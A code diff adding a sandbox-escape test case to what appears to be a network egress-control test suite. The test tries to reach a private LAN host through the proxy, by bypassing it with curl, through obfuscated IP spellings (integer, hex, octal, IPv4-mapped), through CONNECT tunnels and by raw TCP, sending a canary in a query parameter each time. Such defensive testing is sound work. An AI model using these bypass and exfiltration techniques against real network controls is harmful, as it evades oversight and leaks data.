@@ -589,6 +589,42 @@ say(f'transparent {edge}:{TP}', xchg((ip, TP), req('GET', '/?d=' + C, f'{edge}:{
     leak: judged({ audit: [blocked('dials to the private address on a port no rule grants it', 2, '127.77.0.1')] }),
   },
 
+  {
+    id: 'net.lan-host',
+    class: 3,
+    title: 'a private address one hop away that the host can reach (a LAN host in a network namespace): by allowed name, IP literal and its other spellings, CONNECT, direct and raw',
+    applies: (c) => proxied(c) ?? (c.fixture.attackers!.lan ? null : `not applicable: ${c.fixture.attackers!.lanUnavailable ?? 'no LAN host'}`),
+    script: (c) => {
+      const lan = c.fixture.attackers!.lan!;
+      const [a, b, cc, d] = lan.ip.split('.').map(Number) as [number, number, number, number];
+      const int = ((a << 24) >>> 0) + (b << 16) + (cc << 8) + d;
+      const forms = [lan.ip, String(int), `0x${int.toString(16)}`, `${a}.${(b << 16) + (cc << 8) + d}`, `0${a.toString(8)}.${b}.${cc}.${d}`, `::ffff:${lan.ip}`];
+      return sh(c, [
+        'need curl curl',
+        `LAN=${lan.ip} LN=${c.fixture.attackers!.names.lan}`,
+        'echo "== by the allowed name, through the proxy"',
+        'curl -sS -m 4 "http://$LN/?d=$C" 2>&1 | head -4',
+        'curl -ksS -m 4 "https://$LN/" 2>&1 | head -2',
+        'curl -sS -m 4 "http://$LN:8080/?d=$C" 2>&1 | head -4',
+        'echo "== direct, ignoring the proxy (captured)"',
+        `curl --noproxy '*' -sS -m 4 "http://$LAN/?d=$C" 2>&1 | head -2`,
+        python(c, String.raw`lan = ${JSON.stringify(lan.ip)}
+for f in ${JSON.stringify(forms)}:
+    a = f'[{f}]' if ':' in f else f
+    s, st = tunnel(f'{a}:80'); say(f'CONNECT {a}:80', st)
+    if s: s.sendall(req('GET', '/?d=' + C, f'{a}')); say('  inside', readall(s)); s.close()
+    say(f'GET http://{a}/', xchg(PX, req('GET', f'http://{a}/?d={C}', a)))
+say(f'raw TCP to {lan}:8080', xchg((lan, 8080), C.encode()))
+ip = synth(N['lan'])
+say(f'transparent {N["lan"]} ({ip})', xchg((ip, 80), req('GET', '/?d=' + C, N['lan'])) if ip else 'no synthetic address')`),
+      ]);
+    },
+    leak: judged({
+      audit: [blocked('dials to the LAN address refused for its class', 4)],
+      output: (out) => (/the name resolves only to addresses cordon does not connect to/.test(out) ? null : 'the agent was not told why the LAN name was refused'),
+    }),
+  },
+
   // -- 4. DNS rebinding -------------------------------------------------------
   {
     id: 'net.rebind-several-addresses',
